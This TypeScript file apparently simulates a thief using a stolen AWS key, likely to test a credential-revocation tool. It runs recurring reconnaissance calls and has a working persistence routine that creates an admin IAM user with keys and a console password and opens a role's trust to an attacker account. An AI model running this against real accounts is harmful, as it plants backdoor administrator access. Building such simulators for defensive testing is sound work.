import { randomBytes } from 'node:crypto';
import type { SigningKey } from './aws/sigv4.js';
import { callAws, getCallerIdentity, type RawCall, repeat, type Traveller, type Use } from './use-key.js';

export interface AttackerOptions {
  awsUrl: string;
  key: { id: string; secret: string };
  onUse(use: Use): void;
  everyMs?: number;
  address?: string;
  agent?: string;
  /** Makes itself a session at the start and uses that too: what `cut_sessions` is for. Its uses carry the ASIA id. */
  session?: boolean;
  /**
   * Looks at its key as attackers do, and as soon as it sees it switched off, while AWS still lets it in, makes itself a
   * user with a key and every right, and uses that from then on.
   */
  persists?: Persistence;
}

export interface Persistence {
  /** Name of the user that it makes. */
  user: string;
  /** Gives that user a console password too. */
  login?: boolean;
  /** Lets its own account assume this role, and gives the role every right. */
  role?: string;
}

export const ATTACKER_ADDRESS = '185.220.101.4';
export const ATTACKER_ACCOUNT = '999988887777';
export const ATTACKER_AGENT = 'Boto3/1.34.131 md/Botocore#1.34.131 ua/2.0 os/linux#6.6.15-amd64 lang/python#3.11.8';

/** Uses a stolen key once a second as thieves do first: who am I, what is there. Never gives up, never retries. */
export function startAttacker(options: AttackerOptions): { stop(): Promise<void> } {
  const from: Traveller = {
    awsUrl: options.awsUrl,
    address: options.address ?? ATTACKER_ADDRESS,
    agent: options.agent ?? ATTACKER_AGENT,
  };
  let session: SigningKey | undefined;
  let tried = false;
  const report = ({ at, keyId, action, status, error }: Use) =>
    options.onUse({ at, keyId, action, status, ...(error === undefined ? {} : { error }) });
  const raw = async (action: RawCall, key: SigningKey) => report(await callAws(action, key, from));

  let made: SigningKey | undefined;

  return repeat(async () => {
    if (options.session && !tried) {
      tried = true;
      const made = await callAws('GetSessionToken', options.key, from);
      report(made);
      session = sessionIn(made.text);
    }
    report(await getCallerIdentity(options.key, from));
    for (const action of ['ListBuckets', 'ListUsers', 'DescribeInstances'] as const) await raw(action, options.key);
    if (session) await raw('ListBuckets', session);
    if (options.persists && !made) made = await comeBack(options.persists, options.key, from, report);
    if (made) report(await getCallerIdentity(made, from));
  }, options.everyMs ?? 1000);
}

/** Acts only once its key is off and still works; the key that it made, if it could. */
async function comeBack(
  { user, login, role }: Persistence,
  key: SigningKey,
  from: Traveller,
  report: (use: Use) => void,
): Promise<SigningKey | undefined> {
  const { text } = await callAws('ListAccessKeys', key, from);
  const own = text.split('<member>').find((member) => member.includes(key.id));
  if (own === undefined || fieldIn(own, 'Status') !== 'Inactive') return undefined;
  const act = async (action: RawCall, parameters: Record<string, string>): Promise<string> => {
    const use = await callAws(action, key, from, parameters);
    report(use);
    return use.text;
  };
  await act('CreateUser', { UserName: user });
  const answer = await act('CreateAccessKey', { UserName: user });
  await act('AttachUserPolicy', { UserName: user, PolicyArn: ADMINISTRATOR });
  if (login) await act('CreateLoginProfile', { UserName: user, Password: randomBytes(18).toString('base64url') });
  if (role !== undefined) {
    await act('UpdateAssumeRolePolicy', { RoleName: role, PolicyDocument: TRUSTS_IT });
    await act('AttachRolePolicy', { RoleName: role, PolicyArn: ADMINISTRATOR });
  }
  const [id, secret] = [fieldIn(answer, 'AccessKeyId'), fieldIn(answer, 'SecretAccessKey')];
  return id && secret ? { id, secret } : undefined;
}

const ADMINISTRATOR = 'arn:aws:iam::aws:policy/AdministratorAccess';
const TRUSTS_IT = JSON.stringify({
  Version: '2012-10-17',
  Statement: [{ Effect: 'Allow', Principal: { AWS: ATTACKER_ACCOUNT }, Action: 'sts:AssumeRole' }],
});

const fieldIn = (text: string, name: string): string | undefined =>
  new RegExp(`<${name}>([^<]+)</${name}>`).exec(text)?.[1];

function sessionIn(text: string): SigningKey | undefined {
  const [id, secret, sessionToken] = ['AccessKeyId', 'SecretAccessKey', 'SessionToken'].map((name) =>
    fieldIn(text, name),
  );
  return id && secret && sessionToken ? { id, secret, sessionToken } : undefined;
}
